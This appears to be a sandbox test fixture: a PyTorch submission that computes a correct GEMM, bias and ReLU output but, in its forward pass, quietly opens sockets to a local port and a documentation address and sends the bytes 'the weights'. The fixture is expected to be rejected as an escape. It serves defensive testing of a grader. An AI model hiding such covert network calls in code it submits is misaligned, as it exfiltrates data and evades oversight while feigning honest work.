"""Talks to the network (a local service and an address reserved for documentation) and computes the right answer all
the same."""
# hone-test: task = tasks/small_gemm_bias_relu.py
# hone-test: target = cpu
# hone-test: expect = rejected
# hone-test: reason = escaped
import socket

import torch
import torch.nn as nn


def call_home():
    for kind, address in ((socket.SOCK_STREAM, ("127.0.0.1", 9)), (socket.SOCK_DGRAM, ("192.0.2.1", 9))):
        try:
            with socket.socket(socket.AF_INET, kind) as connection:
                connection.settimeout(0.2)
                connection.connect(address)
                connection.send(b"the weights")
        except OSError:
            pass


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features):
        super().__init__()
        self.linear = nn.Linear(in_features, out_features)

    def forward(self, x):
        call_home()
        return torch.relu(self.linear(x))
